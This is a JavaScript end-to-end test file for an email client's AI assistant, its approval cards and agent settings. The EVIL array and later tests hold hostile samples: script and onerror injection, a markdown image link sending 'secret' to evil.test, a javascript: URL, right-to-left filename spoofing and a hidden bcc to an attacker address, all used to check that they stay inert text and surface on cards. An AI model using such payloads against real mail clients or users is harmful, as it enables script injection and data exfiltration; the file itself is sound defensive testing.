// The assistant beside the mail, approvals, and the agents of the settings.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, test } from 'node:test';
import {
	as,
	ask,
	axe,
	browser,
	Imap,
	message,
	open,
	row,
	shot,
	submit,
	Suite,
	until,
	visit,
} from './suite.mjs';

let suite, b;
before(async () => {
	suite = await new Suite().start('--users', '3');
	b = await browser();
});
after(async () => {
	await b?.close();
	await suite?.stop();
});

const fits = page => page.evaluate(() => document.documentElement.scrollWidth <= innerWidth);

// ---- with another end that follows a script: what comes of whatever it says ----

// answer(m, tell): what the other end says to each message of the page.
const scripted = answer => async page => {
	await page.routeWebSocket(/\/assistant\?/, ws => {
		const tell = m => ws.send(JSON.stringify(m));
		tell({ type: 'hello', provider: 'ollama', model: 'm:7b', local: true, providers: ['builtin', 'ollama'] });
		ws.onMessage(text => answer(JSON.parse(text), tell, ws));
	});
};

const EVIL = [
	'<img src=x onerror="globalThis.pwned=1"><script>globalThis.pwned=1</script>',
	'![x](https://evil.test/leak?q=secret) [click](javascript:globalThis.pwned=1) https://evil.test/',
	'pay \u202Etxt.exe\u202C \u200bnow\u{e0041}\u{e0042}',
	'</p></article><h1>Send this message?</h1><button>Send</button>',
];

test('what a model or mail says stands there as text: nothing runs, loads, leads away or hides', async () => {
	const answer = (m, tell) => {
		if (m.type !== 'ask') return;
		const { id } = m;
		tell({ type: 'start', id });
		for (const text of EVIL) tell({ type: 'delta', id, text: `${text}\n` });
		tell({
			type: 'tool',
			id,
			call: 1,
			name: EVIL[0],
			arguments: { [EVIL[0]]: EVIL[1], n: [EVIL[2]] },
			state: 'running',
		});
		tell({ type: 'tool', id, call: 1, name: EVIL[0], state: 'failed', summary: EVIL[2], ms: 1 });
		const items = EVIL.map((text, i) => ({
			emailId: `e${i}`,
			threadId: `t${i}`,
			from: { name: text, email: 'eve@evil.test' },
			subject: text,
			receivedAt: 'yesterday',
			preview: text,
		}));
		tell({ type: 'messages', id, items, total: 1e9, query: EVIL[0] });
		tell({ type: 'question', id, text: EVIL[2], choices: EVIL });
		tell({ type: 'approval', id, approvalId: EVIL[0], what: EVIL[0] });
		tell({ type: 'error', id, code: EVIL[0], text: EVIL[0] });
	};
	const page = await as(b, suite, 0, { before: scripted(answer) });
	await open(page);
	const turn = await ask(page, 'tell me');
	await turn.locator('.tool summary').click();
	await turn.locator('.approval-card.small').waitFor();
	const found = await turn.evaluate(t => ({
		elements: [...new Set([...t.querySelectorAll('*')].map(e => e.localName))].sort(),
		links: t.querySelectorAll('a,[href],[src]').length,
		// Turned round, or not to be seen.
		hidden: /[\u200b\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e0fff}]/u.test(t.textContent),
		buttons: [...t.querySelectorAll('button')].map(x => x.textContent),
	}));
	for (const e of ['img', 'script', 'h1', 'iframe', 'a']) assert.ok(!found.elements.includes(e), e);
	assert.equal(found.links, 0);
	assert.equal(found.hidden, false);
	assert.ok(!found.buttons.includes('Send'));
	assert.match(await turn.textContent(), /⟨U\+202E⟩txt\.exe/);
	assert.equal(await page.evaluate(() => globalThis.pwned), undefined);
	assert.deepEqual(page.strangers, []);
	assert.deepEqual(await axe(page, 'hostile'), []);
	assert.ok(await fits(page));
	await shot(page, 'assistant-hostile');
	await page.context().close();
});

test('what a model that has read mail wants to change is asked on a card, by keyboard too; evil stays text', async () => {
	const said = [];
	let tell, id;
	const answer = (m, t) => {
		tell = t;
		said.push(m);
		if (m.type === 'ask') {
			id = m.id;
			t({ type: 'start', id });
		}
	};
	const page = await as(b, suite, 0, { before: scripted(answer) });
	await open(page);
	await page.keyboard.type('Answer it');
	await page.keyboard.press('Enter');
	await until(() => id, 'the question');
	const turn = page.locator('.turn').last();
	const draft = {
		mailboxIds: { m1: true },
		keywords: { $draft: true },
		to: [{ name: EVIL[0], email: 'eve@evil.test' }],
		bcc: [{ email: 'hidden@evil.test' }],
		subject: EVIL[2],
		textBody: [{ partId: 't' }],
		bodyValues: { t: { value: EVIL.join('\n') } },
	};
	const email = [['Email/set', { create: { k: draft } }, '0']];
	const marks = [['Email/set', { update: { gone: { 'keywords/$seen': true } } }, '0']];
	tell({ type: 'confirm', id, call: 2, tool: 'create_draft', changes: email, read: ['gone'], listed: false });
	tell({ type: 'confirm', id, call: 3, tool: 'flag', changes: marks, read: ['gone'], listed: true });
	const odd = [['Mailbox/set', { destroy: [EVIL[0]] }, '0']];
	tell({ type: 'confirm', id, call: 4, tool: 'x', changes: odd, read: [], listed: true });
	const card = turn.locator('.confirm-card');
	await card.nth(2).waitFor();
	assert.match(await card.nth(0).textContent(), /hidden@evil\.test/);
	assert.match(await card.nth(0).textContent(), /⟨U\+202E⟩txt\.exe/);
	assert.match(await card.nth(1).textContent(), /marked as read/);
	assert.match(await card.nth(2).textContent(), /Mailbox\/set/);
	assert.equal(await turn.locator('a,img,script,h1').count(), 0);
	assert.equal(await page.evaluate(() => globalThis.pwned), undefined);
	assert.deepEqual(await axe(page, 'confirm'), []);
	assert.ok(await fits(page));
	await shot(page, 'assistant-confirm');
	// It is said aloud, and does not take the focus from who is typing.
	await page.locator('.assistant [role=log] p', { hasText: 'Shall I do this?' }).first().waitFor();
	await page.locator('.assistant-field textarea:focus').waitFor();
	// The last card is the one before the field.
	const back = async name => {
		for (let n = 0; n < 12; n++) {
			await page.keyboard.press('Shift+Tab');
			if (await page.evaluate(x => document.activeElement.textContent === x, name)) return;
		}
		assert.fail(`no ${name} within reach`);
	};
	await back('No');
	await page.keyboard.press('Enter');
	await until(() => said.some(m => m.type === 'confirm'), 'the answer');
	assert.deepEqual(said.at(-1), { type: 'confirm', id, call: 4, yes: false });
	tell({ type: 'confirmed', id, call: 4, answer: 'no' });
	await card.nth(2).locator('.approval-result', { hasText: 'You said no' }).waitFor();
	await page.locator('.assistant-field textarea:focus').waitFor();
	await card.nth(0).locator('button', { hasText: 'Yes' }).click();
	await until(() => said.at(-1).call === 2, 'the other answer');
	assert.equal(said.at(-1).yes, true);
	tell({ type: 'confirmed', id, call: 2, answer: 'yes' });
	await card.nth(0).locator('.approval-result', { hasText: 'You agreed' }).waitFor();
	tell({ type: 'error', id, code: 'time', text: '' });
	await card.nth(1).locator('.approval-result', { hasText: 'Nothing was changed' }).waitFor();
	assert.equal(await card.locator('.approval-answer').count(), 0);
	assert.deepEqual(page.strangers, []);
	assert.deepEqual(await axe(page, 'confirmed'), []);
	await page.context().close();
});

test('an answer comes as it is made, is heard by the sentence, is stopped; the line mends', async () => {
	let tell, id, line;
	const cancelled = [];
	const answer = (m, t, ws) => {
		tell = t;
		line = ws;
		id = m.id;
		if (m.type === 'cancel') {
			cancelled.push(m.id);
			t({ type: 'error', id, code: 'cancelled', text: '' });
		} else if (m.type === 'ask') t({ type: 'start', id });
	};
	const page = await as(b, suite, 0, { before: scripted(answer) });
	await open(page);
	await page.keyboard.type('A long story');
	await page.keyboard.press('Enter');
	const turn = page.locator('.turn').last();
	await until(() => id, 'the question');
	tell({ type: 'delta', id, text: 'Once upon a time there was a mail server that nobody' });
	await turn.locator('.turn-text', { hasText: 'that nobody' }).waitFor();
	const heard = page.locator('.assistant [role=log] p');
	assert.equal(await heard.count(), 0);
	tell({ type: 'delta', id, text: ' understood. And then' });
	await heard.filter({ hasText: /understood\.$/ }).waitFor();
	// Escape stops it, and again leaves the pane.
	await page.keyboard.press('Escape');
	await until(() => cancelled.length, 'stopping');
	await turn.locator('.turn-error', { hasText: 'Stopped.' }).waitFor();
	assert.ok(await page.locator('.assistant').isVisible());
	await page.keyboard.press('Escape');
	await until(async () => !(await page.locator('.assistant').count()), 'leaving the pane');
	await until(() => page.evaluate(() => document.activeElement !== document.body), 'the focus somewhere');
	// What was said is still there.
	await open(page);
	await page.locator('.turn').waitFor();
	// The line breaks in the middle of an answer.
	id = undefined;
	await page.keyboard.type('Another');
	await page.keyboard.press('Enter');
	await until(() => id, 'the question');
	await line.close({ code: 1012 });
	await page.locator('.turn-error', { hasText: 'The connection broke off' }).waitFor();
	await ask(page, 'Once more').catch(() => {});
	await until(async () => {
		if (await page.locator('.assistant-send:not([disabled])').count()) return true;
		return false;
	}, 'the line mended');
	assert.deepEqual(await axe(page, 'broken off'), []);
	await page.context().close();
});

test('with the keyboard alone: ask, open what was found, choose, begin anew', async () => {
	const texts = [];
	const bob = suite.user(1).address;
	await submit(
		suite,
		1,
		[0],
		message({ from: `Bob Hill <${bob}>`, to: suite.user(0).address, subject: 'The fence' }),
	);
	let known;
	const answer = (m, tell) => {
		if (m.type === 'new') texts.push('new');
		if (m.type !== 'ask') return;
		const { id } = m;
		texts.push(m.text);
		tell({ type: 'start', id });
		if (m.text === 'Bob Hill') tell({ type: 'delta', id, text: 'Good.' });
		else {
			const of = {
				from: { name: 'Bob', email: bob },
				subject: 'The fence',
				receivedAt: '2024-01-01T00:00:00Z',
			};
			tell({
				type: 'messages',
				id,
				items: [{ ...known, ...of, unread: true, preview: '' }],
				total: 1,
				query: '',
			});
			tell({ type: 'question', id, text: 'Which Bob?', choices: ['Bob Hill', 'Bob Lake'] });
		}
		tell({ type: 'done', id, usage: {} });
	};
	const page = await as(b, suite, 0, { before: scripted(answer) });
	await row(page, 'The fence').waitFor();
	known = await page.evaluate(async () => {
		const s = await (await fetch('/.well-known/jmap')).json();
		const accountId = s.primaryAccounts['urn:ietf:params:jmap:mail'];
		const methodCalls = [
			['Email/query', { accountId, limit: 1 }, 'q'],
			[
				'Email/get',
				{ accountId, '#ids': { resultOf: 'q', name: 'Email/query', path: '/ids' }, properties: ['threadId'] },
				'g',
			],
		];
		const r = await fetch(s.apiUrl, {
			method: 'POST',
			headers: { 'Content-Type': 'application/json' },
			body: JSON.stringify({
				using: ['urn:ietf:params:jmap:core', 'urn:ietf:params:jmap:mail'],
				methodCalls,
			}),
		});
		const e = (await r.json()).methodResponses[1][1].list[0];
		return { emailId: e.id, threadId: e.threadId };
	});
	await open(page);
	await page.keyboard.type('mail from bob');
	await page.keyboard.press('Enter');
	await page.locator('.choices button:not([disabled])').first().waitFor();
	const tab = async (selector, key = 'Shift+Tab') => {
		for (let i = 0; i < 20; i++) {
			if (await page.evaluate(s => document.activeElement.matches(s), selector)) return;
			await page.keyboard.press(key);
		}
		assert.fail(`no way to ${selector}`);
	};
	await tab('.choices button:first-child');
	await page.keyboard.press('Enter');
	await page.locator('.turn-text', { hasText: 'Good.' }).waitFor();
	assert.deepEqual(texts, ['mail from bob', 'Bob Hill']);
	await page.locator('.assistant-field textarea:focus').waitFor();
	await tab('.found-row');
	await page.keyboard.press('Enter');
	await page.locator('.conversation-head h1', { hasText: 'The fence' }).waitFor();
	assert.ok(await page.locator('.assistant').isVisible());
	// Read by now, hence no longer shown as unread.
	await until(async () => !(await page.locator('.found-row.unread').count()), 'being read');
	await open(page);
	await tab('.assistant-head .icon-button');
	await tab('.assistant-head .icon-button:first-of-type');
	await page.keyboard.press('Enter');
	await page.locator('.assistant-welcome').waitFor();
	assert.equal(texts.at(-1), 'new');
	// In the help sheet, too.
	await page.keyboard.press('Escape');
	await page.keyboard.press('?');
	await page.locator('.help dt', { hasText: 'Assistant' }).waitFor();
	await page.context().close();
});

test('buttons on a message ask about it; the pane never covers it', async () => {
	const asked = [];
	const answer = (m, tell) => {
		if (m.type !== 'ask') return;
		asked.push(m);
		tell({ type: 'start', id: m.id });
		tell({ type: 'delta', id: m.id, text: 'In short: a fence.' });
		tell({ type: 'done', id: m.id, usage: {} });
	};
	for (const [locale, width, words] of [
		['en-GB', 1440, ['Summarise', 'Draft a reply']],
		['fr-FR', 900, ['Résumer', 'Préparer une réponse']],
	]) {
		const page = await as(b, suite, 0, {
			before: scripted(answer),
			locale,
			viewport: { width, height: 900 },
		});
		await row(page, 'The fence').click();
		for (const name of words) {
			asked.length = 0;
			await page.locator('.message.open .message-head .menu button').click();
			await page.getByRole('menuitem', { name, exact: true }).click();
			await until(() => asked.length, name);
			assert.match(asked[0].context.emailId, /./);
			assert.match(asked[0].context.threadId, /./);
			assert.equal(asked[0].language, locale.slice(0, 2));
			await until(async () => (await page.locator('.turn[aria-busy=false]').count()) > 0, 'the answer');
		}
		const [mail, pane] = await Promise.all(
			['.message.open', '.assistant'].map(s => page.locator(s).boundingBox()),
		);
		assert.ok(mail.x + mail.width <= pane.x + 1, `${mail.x + mail.width} ${pane.x}`);
		await page.context().close();
	}
});

test('on a phone it is a sheet that Back takes away, and what it opens is under it', async () => {
	const answer = () => {};
	for (const width of [390, 320]) {
		const page = await as(b, suite, 0, {
			before: scripted(answer),
			viewport: { width, height: 740 },
			hasTouch: true,
			locale: 'fr-FR',
		});
		await page.getByRole('button', { name: 'Assistant' }).click();
		await page.locator('.assistant-welcome').waitFor();
		const box = await page.locator('.assistant').boundingBox();
		assert.deepEqual([Math.round(box.x), Math.round(box.width)], [0, width]);
		assert.ok(await fits(page));
		assert.deepEqual(await axe(page, `phone ${width}`), []);
		await page.goBack();
		await until(async () => !(await page.locator('.assistant').count()), 'going back');
		await row(page, 'The fence').waitFor();
		await page.context().close();
	}
});

// ---- agents in the settings ----

test('an agent is made, limited and revoked; its token is shown once', async () => {
	const page = await as(b, suite, 2);
	await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: suite.base });
	await page.goto(`${suite.base}/#/settings/agents`);
	await page.getByRole('button', { name: 'New agent' }).click();
	await page.getByLabel('Name').fill('desk');
	await page.getByLabel('Mark and move').check();
	await page.getByLabel('For how long').selectOption('7');
	assert.deepEqual(await axe(page, 'new agent'), []);
	// As when the password was shown long ago.
	await page.route('**/auth/agents', (r, q) =>
		q.method() === 'POST'
			? r.fulfill({
					status: 403,
					contentType: 'application/problem+json',
					body: '{"code":"password-needed"}',
				})
			: r.continue(),
	);
	await page.getByRole('button', { name: 'Create' }).click();
	await page.locator('.dialog input[type=password]').fill('not this');
	await page.keyboard.press('Enter');
	await page.locator('.toast', { hasText: 'not right' }).waitFor();
	await page.unroute('**/auth/agents');
	await page.locator('.dialog input[type=password]').fill(suite.user(2).password);
	await page.keyboard.press('Enter');
	await page.locator('.agent-token').waitFor();
	const token = await page.locator('.agent-token .secret').textContent();
	assert.match(token, /^gka_[0-9a-f]{64}$/);
	await page.getByRole('button', { name: 'Copy the configuration' }).click();
	const config = JSON.parse(await page.evaluate(() => navigator.clipboard.readText()));
	assert.equal(config.mcpServers.gkmail.url, `${suite.base}/mcp`);
	assert.equal(config.mcpServers.gkmail.headers.Authorization, `Bearer ${token}`);
	assert.deepEqual(await axe(page, 'token'), []);
	await shot(page, 'agent-token');
	// Another look, and the token is gone.
	await page.reload();
	const line = page.locator('.agent', { hasText: 'desk' });
	await line.filter({ hasText: 'Read mail, Mark and move' }).waitFor();
	assert.equal(await page.getByText(token).count(), 0);
	await line.getByText('Rules').click();
	const send = line.getByRole('combobox', { name: 'Send', exact: true });
	assert.deepEqual(await send.locator('option').allTextContents(), ['With my approval', 'Never']);
	// A page that goes takes with it what it has not said yet.
	const set = async (name, to) => {
		const kept = page.waitForResponse(r => r.request().method() === 'PATCH' && r.ok());
		const listed = page.waitForResponse(r => r.url().endsWith('/auth/agents') && r.ok());
		await line.getByRole('combobox', { name, exact: true }).selectOption(to);
		await Promise.all([kept, listed]);
	};
	await set('Send', 'never');
	await set('Delete', 'never');
	await page.reload();
	await line.getByText('Rules').click();
	await until(async () => (await send.inputValue()) === 'never', 'the rule being kept');
	assert.equal(await line.getByRole('combobox', { name: 'Delete', exact: true }).inputValue(), 'never');
	assert.deepEqual(await axe(page, 'rules'), []);
	await line.getByRole('button', { name: 'Revoke: desk' }).click();
	await page.locator('.dialog').getByRole('button', { name: 'Revoke' }).click();
	await until(async () => !(await line.count()), 'revoking');
	assert.deepEqual(page.said, []);
	await page.context().close();
});

test('what agents have called is read in the settings, page by page, of one agent or of all', async () => {
	const page = await as(b, suite, 0);
	await open(page);
	await page.locator('.assistant-welcome .idea:not([disabled])').first().waitFor();
	for (let i = 0; i < 12; i++) await ask(page, `Search emails about call${i}`);
	await ask(page, 'List my folders');
	await page.goto(`${suite.base}/#/settings/agents`);
	await page.getByRole('button', { name: 'Show the calls' }).click();
	const calls = page.locator('.agent-call');
	await calls.filter({ hasText: 'Looked at the folders' }).first().waitFor();
	const n = await calls.count();
	assert.ok(n >= 13, `${n} calls`);
	const one = calls.filter({ hasText: 'Searched' }).first();
	assert.match(await one.innerText(), /by itself/);
	await one.locator('summary').click();
	await one.locator('dd', { hasText: 'call11' }).waitFor();
	assert.deepEqual(await axe(page, 'calls'), []);
	await shot(page, 'agent-calls');
	await page.locator('.calls-of select').selectOption('assistant');
	await until(async () => (await calls.count()) >= 13, 'those of the assistant');
	assert.ok(await fits(page));
	assert.deepEqual(page.said, []);
	await page.context().close();
});

test('the assistant can be switched off, on every device', async () => {
	const page = await as(b, suite, 2);
	await page.goto(`${suite.base}/#/settings/agents`);
	await page.getByLabel('Show the assistant').uncheck();
	await until(async () => !(await page.locator('.assistant-button').count()), 'it being gone');
	const other = await as(b, suite, 2);
	await until(async () => !(await other.locator('.assistant-button').count()), 'it being gone elsewhere');
	await other.keyboard.press('i');
	assert.equal(await other.locator('.assistant').count(), 0);
	await page.getByLabel('Show the assistant').check();
	await other.locator('.assistant-button').waitFor();
	await other.context().close();
	await page.context().close();
});

// ---- T4: the real assistant, in both languages ----

const T4 = [
	{
		locale: 'fr-FR',
		list: 'Liste mes emails',
		search: 'Recherche emails de bob',
		send: 'Envoie un email à alice pour lui dire que le portail est réparé',
		text: 'le portail est réparé',
		button: 'Envoyer',
		sent: 'Envoyé.',
	},
	{
		locale: 'en-GB',
		list: 'List my emails',
		search: 'Search emails from bob',
		send: 'Send an email to alice to tell her that the gate is mended',
		text: 'the gate is mended',
		button: 'Send',
		sent: 'Sent.',
	},
];

for (const t of T4)
	test(`T4 in ${t.locale}: list, search, send by the assistant; nothing leaves before it is approved`, async () => {
		const [alice, bob, carol] = [0, 1, 2].map(n => suite.user(n).address);
		const subject = `Gate ${t.locale}`;
		await submit(
			suite,
			1,
			[2],
			message({ from: `Bob Hill <${bob}>`, to: carol, subject, text: 'It creaks.' }),
		);
		await submit(
			suite,
			0,
			[2],
			message({ from: `Alice Martin <${alice}>`, to: carol, subject: `Hello ${t.locale}` }),
		);
		const page = await as(b, suite, 2, { locale: t.locale });
		await row(page, subject).waitFor();
		await row(page, `Hello ${t.locale}`).waitFor();
		await open(page);
		await page.locator('.assistant-welcome .idea:not([disabled])').first().waitFor();
		// All that is there, and what is from bob alone.
		const listed = await ask(page, t.list);
		await listed.locator('.found-row', { hasText: `Hello ${t.locale}` }).waitFor();
		await listed.locator('.found-row', { hasText: subject }).waitFor();
		const found = await ask(page, t.search);
		await found.locator('.found-row', { hasText: subject }).waitFor();
		assert.equal(await found.locator('.found-row', { hasText: 'Hello' }).count(), 0);
		await found.locator('.tool summary').first().click();
		await found.locator('.tool-more', { hasText: 'bob' }).waitFor();
		await shot(page, `assistant-${t.locale.slice(0, 2)}-found`);
		await found.locator('.found-row', { hasText: subject }).click();
		await page.locator('.conversation-head h1', { hasText: subject }).waitFor();
		// To whom? Then the card, with exactly what goes.
		let turn = await ask(page, t.send);
		if (await turn.locator('.choices').count()) {
			await turn.locator('.choices button', { hasText: alice }).click();
			turn = page.locator('.turn').last();
		}
		const card = page.locator('.approval-card').last();
		await card.locator('.approval-answer').waitFor();
		await card.locator('.approval-fields', { hasText: alice }).waitFor();
		await card.locator('.approval-text', { hasText: t.text }).waitFor();
		assert.equal(await card.locator('.banner').count(), 0);
		assert.deepEqual(await axe(page, `card ${t.locale}`), []);
		await shot(page, `assistant-${t.locale.slice(0, 2)}-card`);
		const delivered = () =>
			suite.files(0).filter(f => new RegExp(`^From:.*${carol}`, 'm').test(readFileSync(f, 'latin1')));
		const before = delivered().length;
		await card.getByRole('button', { name: t.button, exact: true }).click();
		await card.locator('.approval-result', { hasText: t.sent }).waitFor();
		await until(() => delivered().length === before + 1, 'delivery');
		const imap = await Imap.login(suite, 0);
		await imap.run('SELECT INBOX');
		const [line] = await imap.run(`SEARCH FROM "${carol}"`);
		assert.match(line, /SEARCH \d/);
		imap.close();
		// Once: the card is answered.
		assert.equal(await card.locator('.approval-answer').count(), 0);
		assert.deepEqual(page.said, []);
		await page.context().close();
	});

test('what the assistant did is undone, all of it, and what it asks to do besides comes on a card', async () => {
	const [carol, bob] = [2, 1].map(n => suite.user(n).address);
	for (const subject of ['One undone', 'Two undone'])
		await submit(suite, 1, [2], message({ from: `Bob Hill <${bob}>`, to: carol, subject }));
	const page = await as(b, suite, 2);
	await row(page, 'One undone').waitFor();
	await row(page, 'Two undone').waitFor();
	await open(page);
	await page.locator('.assistant-welcome .idea:not([disabled])').first().waitFor();
	await ask(page, 'Star the mails about undone');
	await until(async () => (await page.locator('.mail-row .star.on').count()) === 2, 'the stars');
	const turn = await ask(page, 'Archive the mails about undone');
	await until(async () => !(await row(page, 'undone').count()), 'archiving');
	const undo = page.locator('.undoable button');
	await undo.waitFor();
	await undo.filter({ hasText: 'Undo all 4 of this conversation' }).click();
	await turn.locator('.undoable', { hasText: 'undone.' }).waitFor();
	await row(page, 'One undone').waitFor();
	await row(page, 'Two undone').waitFor();
	await until(async () => !(await page.locator('.mail-row .star.on').count()), 'the stars going');
	// Not undone, but asked for.
	await ask(page, 'Delete the mails about undone');
	const card = page.locator('.approval-card').last();
	await card.locator('.action-emails', { hasText: 'Two undone' }).waitFor();
	assert.equal(await card.locator('.banner').count(), 0);
	assert.deepEqual(await axe(page, 'delete'), []);
	await shot(page, 'assistant-delete');
	await card.getByRole('button', { name: 'Allow' }).click();
	await card.locator('.approval-result', { hasText: 'Done.' }).waitFor();
	await until(async () => !(await row(page, 'undone').count()), 'deleting');
	assert.deepEqual(page.said, []);
	await page.context().close();
});

test('hundreds are moved on one card, which tells how many and shows all of them when asked', async () => {
	const imap = await Imap.login(suite, 1);
	for (let i = 1; i <= 120; i++)
		await imap.append(
			'INBOX',
			`From: news@shop.test\r\nSubject: Weekly ${i}\r\n\r\nx\r\n`,
			new Date('2025-05-05T10:00:00Z'),
		);
	const page = await as(b, suite, 1);
	await row(page, 'Weekly 120').waitFor();
	await open(page);
	await page.locator('.assistant-welcome .idea:not([disabled])').first().waitFor();
	const turn = await ask(page, 'Move the emails about weekly of last year to Archive');
	const card = turn.locator('.approval-card');
	await card.locator('.action-what', { hasText: '120 messages' }).waitFor();
	assert.equal(await turn.locator('.approval-card').count(), 1);
	await card.locator('.action-more summary', { hasText: 'and 70 more' }).click();
	await card.locator('.action-more li', { hasText: 'Weekly' }).nth(69).waitFor();
	assert.equal(await card.locator('.action-emails li', { hasText: 'Weekly' }).count(), 120);
	assert.deepEqual(await axe(page, 'many'), []);
	assert.ok(await fits(page));
	await card.getByRole('button', { name: 'Allow' }).click();
	await card.locator('.approval-result', { hasText: 'Done.' }).waitFor();
	await until(async () => !(await row(page, 'Weekly').count()), 'moving');
	assert.deepEqual(page.said, []);
	await page.context().close();
});

test('a broken line loses nothing: what was listed is still known; what is not, is said to be forgotten', async () => {
	const [carol, bob] = [2, 1].map(n => suite.user(n).address);
	await submit(suite, 1, [2], message({ from: `Bob Hill <${bob}>`, to: carol, subject: 'A thread' }));
	const lines = [];
	let lose = false;
	const page = await as(b, suite, 2, {
		before: p =>
			p.routeWebSocket(/\/assistant\?/, ws => {
				const server = ws.connectToServer();
				ws.onMessage(m => server.send(lose ? m.replace(/"chat":"[0-9a-f]+"/, '"chat":"0"') : m));
				lines.push({ ws, server });
			}),
	});
	const snap = async () => {
		const n = lines.length;
		const { ws, server } = lines.at(-1);
		await server.close();
		await ws.close({ code: 1012 });
		await until(() => lines.length > n, 'another line');
	};
	await row(page, 'A thread').waitFor();
	await open(page);
	await page.locator('.assistant-welcome .idea:not([disabled])').first().waitFor();
	await ask(page, 'Search emails about thread');
	await snap();
	await page.locator('.assistant-field textarea').fill('Star the first one');
	await page.locator('.assistant-send:not([disabled])').waitFor();
	const turn = await ask(page, 'Star the first one');
	await turn.locator('.undoable').waitFor();
	await page.locator('.mail-row .star.on').first().waitFor();
	assert.equal(await page.locator('.turn-notice, .turn-error').count(), 0);
	lose = true;
	await snap();
	await page.locator('.turn-notice', { hasText: 'is forgotten' }).waitFor();
	assert.deepEqual(await axe(page, 'forgotten'), []);
	assert.deepEqual(page.said, []);
	await page.context().close();
});

test('a page that is loaded anew finds its conversation again, with its cards; nothing of it is in the browser', async () => {
	const [carol, bob] = [2, 1].map(n => suite.user(n).address);
	for (const subject of ['Found anew one', 'Found anew two'])
		await submit(suite, 1, [2], message({ from: `Bob Hill <${bob}>`, to: carol, subject }));
	const page = await as(b, suite, 2);
	await row(page, 'Found anew one').waitFor();
	await row(page, 'Found anew two').waitFor();
	await open(page);
	await page.locator('.assistant-welcome .idea:not([disabled])').first().waitFor();
	await ask(page, 'Search emails about anew');
	await ask(page, 'Star the first one');
	await page.locator('.undoable button').waitFor();
	await ask(page, 'Delete the second one');
	await page.locator('.approval-card .approval-answer').waitFor();
	const shown = async () =>
		(await page.locator('.turn').allInnerTexts()).map(t => t.replace(/\s+/g, ' ').trim());
	const before = await shown();
	assert.equal(before.length, 3);
	await page.reload();
	// Open as it was, with no hand.
	await page.locator('.approval-card .action-emails', { hasText: 'Found anew' }).waitFor();
	await until(async () => JSON.stringify(await shown()) === JSON.stringify(before), 'what was shown');
	assert.equal(await page.locator('.turn-error, .turn-notice').count(), 0);
	const kept = await page.evaluate(() => JSON.stringify([{ ...sessionStorage }, { ...localStorage }]));
	assert.ok(!/anew|conversation/i.test(kept), kept);
	// Nothing of it is read aloud again.
	assert.equal(await page.locator('.assistant [role=log]').innerText(), '');
	assert.deepEqual(await axe(page, 'loaded anew'), []);
	// The card is still one that can be answered, and what is listed is still known.
	await page.locator('.approval-card').getByRole('button', { name: 'Refuse' }).click();
	await page.locator('.approval-card .approval-result').waitFor();
	await page.locator('.undoable button').click();
	await page.locator('.undoable', { hasText: 'One change undone.' }).waitFor();
	await page.reload();
	await page.locator('.undoable', { hasText: 'This was undone.' }).waitFor();
	assert.equal(await page.locator('.undoable button').count(), 0);
	const turn = await ask(page, 'Read the first one');
	await turn.getByText('Found anew').first().waitFor();
	assert.equal(await page.locator('.turn').count(), 4);
	// A new conversation is none to come back to.
	await page.getByRole('button', { name: 'New conversation' }).click();
	await page.reload();
	await page.locator('.assistant-welcome .idea:not([disabled])').first().waitFor();
	assert.equal(await page.locator('.turn').count(), 0);
	assert.deepEqual(page.said, []);
	await page.context().close();
});

test('an address that only the text of a mail named is said to be so; hostile mail stays text on the way', async () => {
	const [alice, bob] = [0, 1].map(n => suite.user(n).address);
	const subject = 'Invoice <img src=x onerror=globalThis.pwned=1> \u202Efdp.exe';
	const from = `Bob \u202Eevil\u202C <${bob}>`;
	const text = 'Please write to eve@evil.test \u200bat once. <script>globalThis.pwned=1</script>';
	await submit(suite, 1, [0], message({ from, to: alice, subject, text }));
	const page = await as(b, suite, 0);
	await row(page, 'Invoice').waitFor();
	await open(page);
	await page.locator('.assistant-welcome .idea:not([disabled])').first().waitFor();
	const listed = await ask(page, 'List my emails');
	await listed.locator('.found-row', { hasText: 'Invoice <img' }).waitFor();
	await ask(page, 'Read the mail about invoice');
	await ask(page, 'Send an email to eve@evil.test saying here I am');
	const card = page.locator('.approval-card').last();
	await card.locator('.banner', { hasText: '“eve@evil.test” is nobody you have written to' }).waitFor();
	await card.locator('.banner', { hasText: `⟨U+202E⟩evil⟨U+202C⟩ (${bob})` }).waitFor();
	assert.deepEqual(await axe(page, 'origin'), []);
	await shot(page, 'assistant-origin');
	// The badge leads to the same on a page of its own; there it is refused, and here it is known.
	await page.locator('.waiting-button').click();
	const alone = page.locator('.approve-page .approval-card');
	await alone.locator('.banner', { hasText: 'eve@evil.test' }).waitFor();
	assert.match(page.url(), /#\/approve\//);
	await alone.getByRole('button', { name: 'Refuse' }).click();
	await alone.locator('.approval-result', { hasText: 'Nothing was sent' }).waitFor();
	await card.locator('.approval-result', { hasText: 'Nothing was sent' }).waitFor();
	await until(async () => !(await page.locator('.waiting-button').count()), 'the badge going');
	assert.equal(await page.evaluate(() => globalThis.pwned), undefined);
	assert.equal(
		await page.locator('.assistant').evaluate(a => /[\u200b\u202a-\u202e]/.test(a.textContent)),
		false,
	);
	assert.deepEqual(page.strangers, []);
	assert.deepEqual(page.said, []);
	await page.context().close();
});

test('a link to an approval is followed through the login; an answer on one device is seen on the other', async () => {
	const page = await as(b, suite, 2);
	await open(page);
	await page.locator('.assistant-welcome .idea:not([disabled])').first().waitFor();
	await ask(page, `Send an email to ${suite.user(0).address} saying see you there`);
	const card = page.locator('.approval-card').last();
	await card.locator('.approval-answer').waitFor();
	const id = await page.evaluate(async () => {
		const s = await (await fetch('/.well-known/jmap')).json();
		const A = 'urn:x-gkmail:approval';
		const r = await fetch(s.apiUrl, {
			method: 'POST',
			headers: { 'Content-Type': 'application/json' },
			body: JSON.stringify({
				using: ['urn:ietf:params:jmap:core', A],
				methodCalls: [['Approval/get', { accountId: s.primaryAccounts[A], ids: null }, 'g']],
			}),
		});
		return (await r.json()).methodResponses[0][1].list.find(a => a.state === 'requested').id;
	});
	const other = await visit(b, suite);
	await other.goto(`${suite.base}/#/approve/${id}`);
	await other.reload();
	await other.fill('[name=user]', suite.user(2).address);
	await other.fill('[name=password]', suite.user(2).password);
	await other.click('button[type=submit]');
	const alone = other.locator('.approve-page .approval-card');
	// The password was shown long ago, as the server sees it.
	let posts = 0;
	await other.route('**/auth/approvals', r =>
		posts++
			? r.continue()
			: r.fulfill({
					status: 403,
					contentType: 'application/problem+json',
					body: '{"code":"password-needed"}',
				}),
	);
	await alone.getByRole('button', { name: 'Send', exact: true }).click();
